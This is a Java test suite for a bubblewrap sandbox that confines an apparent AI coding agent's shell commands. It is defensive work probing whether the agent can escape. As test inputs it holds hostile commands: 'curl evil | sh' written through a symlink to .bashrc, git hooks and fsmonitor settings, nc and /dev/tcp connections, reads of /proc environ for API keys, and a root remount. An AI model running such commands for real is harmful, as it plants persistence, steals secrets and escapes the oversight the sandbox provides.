package dev.rosetta.tools.sandbox;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.channels.ServerSocketChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import dev.rosetta.core.testing.MachineRequirement;
import dev.rosetta.core.tool.ErrorCode;
import dev.rosetta.core.tool.ToolResult;
import dev.rosetta.tools.process.Executables;

/** What the sandbox allows and refuses, with the real bubblewrap and real programs inside. */
class BubblewrapSandboxTest {

    /** Under the build folder, which may itself lie under the host's {@code /tmp} (a CI checkout). */
    private Path root;
    private Path workspace;
    private Path outside;
    private Path config;
    private Sandbox sandbox;

    @BeforeEach
    void setUp() throws IOException {
        Confined.requireBubblewrap();
        root = Confined.folderOutsideTmp();
        workspace = Files.createDirectories(root.resolve("workspace"));
        outside = Files.createDirectories(root.resolve("outside"));
        config = Files.createDirectories(root.resolve("config/rosetta"));
        Files.writeString(config.resolve("config.local.toml"), "[env]\nOPENAI_API_KEY = \"sk-in-the-config\"\n");
        sandbox = sandbox(SandboxSettings.DEFAULT, List.of());
    }

    @AfterEach
    void tearDown() {
        if (sandbox != null) {
            sandbox.close();
        }
        Tree.delete(root);
    }

    private Sandbox sandbox(SandboxSettings settings, List<Path> writable) {
        SandboxPolicy policy = new SandboxPolicy(workspace, writable, List.of(config), List.of(config),
                root.resolve("home"), NetworkAccess.OFF);
        return Sandbox.of(settings, policy, SecretVariables.DEFAULT);
    }

    private Confined.Ran run(String script) throws Exception {
        return Confined.run(sandbox, workspace, script);
    }

    @Test
    void readingTheWholeFileSystemIsAllowed() throws Exception {
        Files.writeString(outside.resolve("notes.txt"), "readable\n");

        Confined.Ran ran = run("cat " + outside.resolve("notes.txt") + " && ls /usr/bin | grep -c . ");

        assertThat(ran.succeeded()).as(ran.output()).isTrue();
        assertThat(ran.output()).startsWith("readable\n");
    }

    @Test
    void writingOutsideTheWorkspaceIsRefused() throws Exception {
        Confined.Ran ran = run("touch " + outside.resolve("planted") + "; echo x >> " + outside.resolve("more"));

        assertThat(ran.output()).contains("Read-only file system");
        assertThat(outside.resolve("planted")).doesNotExist();
        assertThat(outside.resolve("more")).doesNotExist();
    }

    @Test
    void writingTheWorkspaceIsAllowed() throws Exception {
        Confined.Ran ran = run("mkdir -p sub && echo made > sub/file.txt && cat sub/file.txt");

        assertThat(ran.output()).isEqualTo("made\n");
        assertThat(workspace.resolve("sub/file.txt")).hasContent("made");
    }

    @Test
    void devNullAndThePrivateTempFolderWork() throws Exception {
        Confined.Ran ran = run("echo gone > /dev/null && t=$(mktemp) && echo kept > \"$t\" && cat \"$t\" && echo $TMPDIR");

        assertThat(ran.output()).isEqualTo("kept\n/tmp\n");
    }

    /**
     * A checkout under the host's /tmp: its files were invisible in the sandbox (the private /tmp hid
     * them), so reading "the whole file system" failed exactly for projects kept there.
     */
    @Test
    void whatLiesInTheHostsTempFolderIsReadableButNotWritable() throws Exception {
        Path hostFolder = Files.createTempDirectory(Path.of("/tmp"), "rosetta-host-tmp-");
        try {
            Files.writeString(hostFolder.resolve("notes.txt"), "readable\n");

            Confined.Ran ran = run("cat " + hostFolder.resolve("notes.txt") + "; touch " + hostFolder.resolve("planted")
                    + "; echo new > /tmp/made-inside && cat /tmp/made-inside");

            assertThat(ran.output()).startsWith("readable\n").contains("Read-only file system").endsWith("new\n");
            assertThat(hostFolder.resolve("planted")).doesNotExist();
            assertThat(Path.of("/tmp/made-inside")).doesNotExist();
        } finally {
            Tree.delete(hostFolder);
        }
    }

    @Test
    void theTempFolderIsPrivateAndSharedByTheConversationsProcesses() throws Exception {
        run("echo from-one > /tmp/shared.txt");

        assertThat(run("cat /tmp/shared.txt").output()).isEqualTo("from-one\n");
        assertThat(Path.of("/tmp/shared.txt")).doesNotExist();
    }

    @Test
    void gitConfigCannotBeWritten() throws Exception {
        Files.createDirectories(workspace.resolve(".git/hooks"));
        Files.writeString(workspace.resolve(".git/config"), "[core]\n");

        Confined.Ran ran = run("echo '[core] fsmonitor = evil' >> .git/config; echo evil > .git/hooks/pre-commit;"
                + " cat .git/config");

        assertThat(ran.output()).contains("Read-only file system").endsWith("[core]\n");
        assertThat(workspace.resolve(".git/config")).hasContent("[core]");
        assertThat(workspace.resolve(".git/hooks/pre-commit")).doesNotExist();
    }

    /** A repository with one commit in the workspace, made outside the sandbox; {@code then} runs after {@code git init}. */
    private void repository(String then) throws Exception {
        MachineRequirement.require(Executables.find("git", System.getenv("PATH")).isPresent(), "git");
        Confined.Ran init = Confined.run(Sandbox.off(SecretVariables.DEFAULT), workspace, "git init -q -b main . && "
                + then + " && git -c user.name=t -c user.email=t@t commit -q --allow-empty -m start");
        assertThat(init.succeeded()).as(init.output()).isTrue();
    }

    @Test
    void aCommitIsRefusedAndTheModelHearsWhyAndHowTheUserAllowsIt() throws Exception {
        repository("true");

        Confined.Ran ran = run("echo hi > a.txt && git add a.txt && git -c user.name=t -c user.email=t@t commit -q -m 'Add a'");
        Confined.Ran log = Confined.run(Sandbox.off(SecretVariables.DEFAULT), workspace, "git log --oneline | wc -l");
        ToolResult told = SandboxRefusal.classify(ToolResult.error(ErrorCode.exitCode(128), ran.output()), sandbox, workspace);

        assertThat(ran.succeeded()).isFalse();
        assertThat(ran.output()).contains("index.lock").contains("Read-only file system");
        assertThat(workspace.resolve("a.txt")).as("the working tree stays writable").hasContent("hi");
        assertThat(log.output()).isEqualTo("1\n");
        assertThat(told.code()).isEqualTo(ErrorCode.SANDBOX);
        assertThat(told.output()).contains("is read-only in the sandbox").contains("[sandbox] writable = [\".git\"]");
    }

    @Test
    void withTheRepositoryMadeWritableACommitAndABranchWorkButHooksCannotBePlanted() throws Exception {
        repository("rm -rf .git/hooks");
        sandbox.close();
        sandbox = sandbox(SandboxSettings.DEFAULT, List.of(Path.of(".git")));

        Confined.Ran ran = run("git switch -q -c feature && echo hi > a.txt && git add a.txt"
                + " && git -c user.name=t -c user.email=t@t commit -q -m 'Add a' && git log --oneline | wc -l;"
                + " mkdir -p .git/hooks; echo 'touch pwned' > .git/hooks/post-checkout; git config core.pager evil");

        assertThat(ran.output()).startsWith("2\n").contains("Read-only file system");
        assertThat(workspace.resolve(".git/hooks/post-checkout")).doesNotExist();
        assertThat(Files.readString(workspace.resolve(".git/config"))).doesNotContain("evil");
        sandbox.close();
        assertThat(workspace.resolve(".git/hooks")).as("the empty mount point is gone").doesNotExist();
    }

    @Test
    void aLinkedWorktreesPointerAndRepositoryAreReadOnlyAndStayInPlace() throws Exception {
        MachineRequirement.require(Executables.find("git", System.getenv("PATH")).isPresent(), "git");
        Path cache = Files.createDirectories(root.resolve("cache"));
        Path main = cache.resolve("main/.git");
        Confined.Ran made = Confined.run(Sandbox.off(SecretVariables.DEFAULT), cache, "git init -q -b main main"
                + " && git -C main -c user.name=t -c user.email=t@t commit -q --allow-empty -m start"
                + " && git -C main worktree add -q -b wt " + workspace);
        assertThat(made.succeeded()).as(made.output()).isTrue();
        String pointer = Files.readString(workspace.resolve(".git"));
        sandbox.close();
        sandbox = sandbox(SandboxSettings.DEFAULT, List.of(cache));

        Confined.Ran ran = run("git -c user.name=t -c user.email=t@t commit -q --allow-empty -m x;"
                + " echo '[core] fsmonitor = evil' >> " + main.resolve("config") + "; echo 'gitdir: /elsewhere' > .git;"
                + " mv " + main + " " + cache.resolve("old") + "; echo written > " + cache.resolve("notes"));
        Confined.Ran log = Confined.run(Sandbox.off(SecretVariables.DEFAULT), workspace, "git log --oneline | wc -l");

        assertThat(ran.output()).contains("Read-only file system").contains("Device or resource busy");
        assertThat(log.output()).isEqualTo("1\n");
        assertThat(Files.readString(main.resolve("config"))).doesNotContain("evil");
        assertThat(workspace.resolve(".git")).hasContent(pointer.strip());
        assertThat(cache.resolve("old")).doesNotExist();
        assertThat(cache.resolve("notes")).as("the folder around the repository stays writable").hasContent("written");
    }

    @Test
    void theRepositoryCannotBeSwappedForOneWhoseConfigTheModelWrote() throws Exception {
        repository("true");

        Confined.Ran ran = run("mv .git .git-old; mkdir -p .git/hooks;"
                + " printf '[core]\\n\\tfsmonitor = touch pwned\\n' > .git/config");
        Confined.Ran after = Confined.run(Sandbox.off(SecretVariables.DEFAULT), workspace, "git status --short");

        assertThat(ran.output()).contains("Device or resource busy").contains("Read-only file system");
        assertThat(workspace.resolve(".git-old")).doesNotExist();
        assertThat(after.succeeded()).as(after.output()).isTrue();
        assertThat(workspace.resolve("pwned")).doesNotExist();
    }

    @Test
    void aRepositoryCanBeMadeWhereThereIsNoneAndItsConfigIsGuardedFromTheNextStart() throws Exception {
        MachineRequirement.require(Executables.find("git", System.getenv("PATH")).isPresent(), "git");
        Confined.Ran made = run("git init -q -b main . && git -c user.name=t -c user.email=t@t commit -q --allow-empty -m start"
                + " && echo made");
        assertThat(made.output()).endsWith("made\n");

        Confined.Ran ran = run("echo '[core] fsmonitor = evil' >> .git/config");

        assertThat(ran.output()).contains("Read-only file system");
        assertThat(Files.readString(workspace.resolve(".git/config"))).doesNotContain("evil");
    }

    @Test
    void rosettaProjectFilesInTheWorkspaceAreReadOnly() throws Exception {
        Files.writeString(workspace.resolve("rosetta.toml"), "[tools]\n");
        Files.createDirectories(workspace.resolve(".rosetta"));

        Confined.Ran ran = run("echo '[permissions]' >> rosetta.toml; touch .rosetta/x");

        assertThat(ran.output()).contains("Read-only file system");
        assertThat(workspace.resolve("rosetta.toml")).hasContent("[tools]");
        assertThat(workspace.resolve(".rosetta/x")).doesNotExist();
    }

    @Test
    void aSymlinkSwappedIntoTheWorkspaceCannotCarryAWriteOut() throws Exception {
        Path bashrc = Files.writeString(Files.createDirectories(root.resolve("home")).resolve(".bashrc"), "# mine\n");
        Files.writeString(workspace.resolve("notes.txt"), "notes\n");

        run("rm notes.txt && ln -s " + bashrc + " notes.txt");
        Confined.Ran ran = run("echo 'curl evil | sh' >> notes.txt; ln -sf " + bashrc.getParent() + " dir;"
                + " echo x > dir/.profile");

        assertThat(ran.output()).contains("Read-only file system");
        assertThat(bashrc).hasContent("# mine");
        assertThat(bashrc.resolveSibling(".profile")).doesNotExist();
    }

    @Test
    void rosettasConfigFolderCannotBeRead() throws Exception {
        Confined.Ran ran = run("ls -A " + config + "; cat " + config.resolve("config.local.toml"));

        assertThat(ran.output()).doesNotContain("sk-in-the-config").contains("No such file or directory");
    }

    @Test
    void theNetworkIsOff() throws Exception {
        MachineRequirement.require(Executables.find("nc", System.getenv("PATH")).isPresent()
                && Executables.find("curl", System.getenv("PATH")).isPresent(), "nc and curl (apt-get install netcat-openbsd curl)");

        Confined.Ran curl = run("curl -sS --max-time 20 https://example.com");
        Confined.Ran nc = run("echo hi | nc -w 5 1.1.1.1 53");
        Confined.Ran tcp = run("exec 3<>/dev/tcp/1.1.1.1/80");
        Confined.Ran dns = run("getent hosts example.com");

        assertThat(curl.succeeded()).as(curl.output()).isFalse();
        assertThat(curl.output()).contains("Could not resolve host");
        assertThat(nc.succeeded()).as(nc.output()).isFalse();
        assertThat(tcp.succeeded()).as(tcp.output()).isFalse();
        assertThat(tcp.output()).contains("Network is unreachable");
        assertThat(dns.succeeded()).as(dns.output()).isFalse();
    }

    @Test
    void aLoopbackServerOfTheMachineIsReachableOnlyWithTheNetworkOn() throws Exception {
        try (ServerSocket server = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
            String probe = "exec 3<>/dev/tcp/127.0.0.1/" + server.getLocalPort() + " && echo connected";

            Confined.Ran off = run(probe);
            sandbox.close();
            sandbox = sandbox(SandboxSettings.DEFAULT.withNetwork(NetworkAccess.ON), List.of());
            Confined.Ran on = run(probe);

            assertThat(off.output()).doesNotContain("connected").contains("Connection refused");
            assertThat(on.output()).contains("connected");
        }
    }

    @Test
    void unixSocketsOfTheMachineCannotBeReached() throws Exception {
        Path socket = outside.resolve("daemon.sock");
        try (ServerSocketChannel daemon = ServerSocketChannel.open(StandardProtocolFamily.UNIX)) {
            daemon.bind(UnixDomainSocketAddress.of(socket));

            Confined.Ran ran = run("python3 -c \"import socket; s = socket.socket(socket.AF_UNIX);"
                    + " s.connect('" + socket + "'); print('connected')\"");

            assertThat(ran.output()).doesNotContain("connected").contains("PermissionError");
        }
    }

    /**
     * The outside probe made a Unix socket and connected it to a daemon's through io_uring, whose
     * requests need no {@code socket} call: the filter refuses io_uring itself.
     */
    @Test
    void unixSocketsOfTheMachineCannotBeReachedThroughIoUringEither() throws Exception {
        Path socket = outside.resolve("daemon.sock");
        Path script = Path.of(getClass().getResource("uring_unix.py").toURI());
        try (ServerSocketChannel daemon = ServerSocketChannel.open(StandardProtocolFamily.UNIX)) {
            daemon.bind(UnixDomainSocketAddress.of(socket));

            Confined.Ran ran = run("python3 '" + script + "' '" + socket + "'");

            assertThat(ran.output()).doesNotContain("connected").contains("io_uring_setup refused");
        }
    }

    @Test
    void procShowsOnlyTheSandboxNotRosetta() throws Exception {
        Confined.Ran ran = run("ls /proc | grep -c '^[0-9]' ; cat /proc/$PPID/cmdline | tr '\\0' ' '; echo;"
                + " cat /proc/" + ProcessHandle.current().pid() + "/environ 2>&1 | head -c 200");

        List<String> lines = ran.output().lines().toList();
        assertThat(Integer.parseInt(lines.get(0).strip())).isLessThan(10);
        assertThat(lines.get(1)).contains("bwrap");
        assertThat(ran.output()).doesNotContain("PATH=");
    }

    @Test
    void theEnvironmentHoldsNoKey() throws Exception {
        Confined.Ran ran = Confined.run(sandbox, workspace, "env; cat /proc/self/environ; cat /proc/$PPID/environ;"
                + " cat /proc/1/environ", Map.of("OPENAI_API_KEY", "sk-test-openai", "MYPROV_TOKEN", "tok-test",
                        "AWS_SECRET_ACCESS_KEY", "aws-test", "HARMLESS", "visible"));

        assertThat(ran.output()).contains("HARMLESS=visible").contains("ROSETTA_SANDBOX=bubblewrap")
                .doesNotContain("sk-test-openai").doesNotContain("tok-test").doesNotContain("aws-test");
    }

    @Test
    void foldersTheUserAddsAreWritable() throws Exception {
        Path cache = Files.createDirectories(root.resolve("cache"));
        sandbox.close();
        sandbox = sandbox(SandboxSettings.DEFAULT, List.of(cache));

        Confined.Ran ran = run("echo cached > " + cache.resolve("entry") + " && echo ok");

        assertThat(ran.output()).isEqualTo("ok\n");
        assertThat(cache.resolve("entry")).hasContent("cached");
    }

    /**
     * A toolbox closed while another's process still ran in the same sandbox (a test's, a
     * conversation's tools closed before its MCP server ended) removed the folders that process's
     * mounts stood on: its /tmp vanished, with the host's /tmp entries bound into it (the JShell
     * host in a checkout under /tmp lost its own classes and exited), and a guard on an empty
     * mount point fell.
     */
    @Test
    void closingTheSandboxWhileItsProcessRunsKeepsItsTempFolderAndGuardsUntilItEnds() throws Exception {
        Path rosettasLogs = workspace.resolve("rosetta-logs"); // missing: kept from being created
        sandbox.close();
        sandbox = Sandbox.of(SandboxSettings.DEFAULT, new SandboxPolicy(workspace, List.of(), List.of(config, rosettasLogs),
                List.of(config), root.resolve("home"), NetworkAccess.OFF), SecretVariables.DEFAULT);
        Sandbox.Launch launch = sandbox.launch(List.of("/bin/bash", "-c", "echo kept > /tmp/kept && echo started;"
                + " read go; cat /tmp/kept; mkdir -p rosetta-logs/planted; echo ended"), workspace, System.getenv(), List.of());
        ProcessBuilder builder = new ProcessBuilder(launch.command()).directory(workspace.toFile()).redirectErrorStream(true);
        builder.environment().clear();
        builder.environment().putAll(launch.environment());
        Process process = builder.start();
        var output = new java.io.BufferedReader(new java.io.InputStreamReader(process.getInputStream(),
                java.nio.charset.StandardCharsets.UTF_8));
        assertThat(output.readLine()).isEqualTo("started");

        var removed = sandbox.closing();
        process.getOutputStream().write("go\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        process.getOutputStream().close();
        String after = output.lines().collect(java.util.stream.Collectors.joining("\n"));
        process.waitFor();

        assertThat(after).startsWith("kept\n").contains("Read-only file system").endsWith("ended");
        assertThat(rosettasLogs.resolve("planted")).doesNotExist();
        removed.get(30, java.util.concurrent.TimeUnit.SECONDS); // on the thread that sees the process end
        assertThat(rosettasLogs).as("the empty mount point is removed once the process ended").doesNotExist();
    }

    @Test
    void nothingCanRemountTheRootWritable() throws Exception {
        Confined.Ran ran = run("mount -o remount,rw / 2>&1; touch " + outside.resolve("x") + " 2>&1;"
                + " grep CapEff /proc/self/status");

        assertThat(outside.resolve("x")).doesNotExist();
        assertThat(ran.output()).contains("CapEff:\t0000000000000000");
    }
}
